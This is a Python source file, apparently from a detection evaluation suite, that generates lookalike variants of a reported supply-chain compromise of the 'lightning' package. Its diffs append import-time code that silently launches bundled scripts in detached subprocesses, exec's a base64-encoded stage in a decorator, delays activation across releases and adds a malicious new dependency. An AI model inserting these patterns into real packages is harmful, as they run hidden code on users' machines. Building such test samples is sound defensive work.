"""lightning 2.6.2 and 2.6.3, 30 April 2026: on import a thread starts a script that fetches a runtime."""

from __future__ import annotations

from evals.lookalikes.deeds import FETCH_RUNTIME, script
from evals.lookalikes.shape import Edit, Lookalike, added, appended
from evals.lookalikes.wraps import b64

INIT = "lightning/__init__.py"
_SCRIPT = script(11_400_000)
_SMALL = script(200_000)
_START = FETCH_RUNTIME.replace("{script}", "router_runtime.js")

CALLER = """\
import os
import subprocess
import sys
import threading


def _prepare_runtime() -> None:
    folder = os.path.join(os.path.dirname(__file__), "_runtime")
    begin = os.path.join(folder, "start.py")
    if os.path.exists(begin):
        subprocess.Popen([sys.executable, begin], cwd=folder, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)


threading.Thread(target=_prepare_runtime, daemon=True).start()
"""


def _one(
    name: str,
    *edits: Edit,
    shape: bool = False,
    first: str = "lightning/",
    lain: tuple[Edit, ...] = (),
) -> Lookalike:
    return Lookalike(
        incident="lightning", name=name, project="lightning", base="2.6.1", version="2.6.2",
        edits=edits, shape=shape, first=first, lain=lain,
    )  # fmt: skip


_MODULE = _START.replace("\nmain()\n", "\n")
_NODE = """\
def _telemetry():
    import os, shutil, subprocess

    node = shutil.which("node") or shutil.which("bun")
    where = os.path.join(os.path.dirname(__file__), "assets", "router.min.js")
    if node:
        subprocess.Popen([node, where], stdout=-3, stderr=-3, start_new_session=True)


_telemetry()
"""
_DECORATOR = f"""\
def _measured(function):
    import base64

    exec(compile(base64.b64decode("{b64(_START)}"), __file__, "exec"), {{"__file__": __file__}})
    return function


@_measured
def _version_tuple() -> tuple:
    return tuple(__version__.split("."))
"""

LOOKALIKES = (
    _one(
        "runtime fetched on import",
        appended(INIT, CALLER),
        added("lightning/_runtime/start.py", _START),
        added("lightning/_runtime/router_runtime.js", _SCRIPT),
        shape=True,
    ),
    _one(
        "imported instead of started, smaller",
        appended(
            "lightning/fabric/__init__.py",
            "from lightning.fabric._native import prepare\n\nprepare()\n",
        ),
        added("lightning/fabric/_native.py", _MODULE.replace("def main(", "def prepare(")),
        added("lightning/fabric/router_runtime.js", _SMALL),
    ),
    _one(
        "installed runtime, no download",
        appended(INIT, _NODE),
        added("lightning/assets/router.min.js", _SMALL),
    ),
    _one(
        "decorator, whole stage encoded",
        appended(INIT, _DECORATOR),
        added("lightning/router_runtime.js", _SMALL),
    ),
    _one(
        "slept one release, called now",
        appended(INIT, "from lightning._native import main as _main\n\n_main()\n"),
        lain=(
            added("lightning/_native.py", _MODULE),
            added("lightning/router_runtime.js", _SMALL),
        ),
    ),
    Lookalike(
        incident="lightning", name="in a new dependency", project="lightning-router-runtime",
        base="", version="1.0", alone=True, first="lightning_router_runtime/",
        edits=(
            added("lightning_router_runtime/__init__.py", "from lightning_router_runtime import start\n"),
            added("lightning_router_runtime/start.py", _START),
            added("lightning_router_runtime/router_runtime.js", _SMALL),
        ),
    ),
)  # fmt: skip
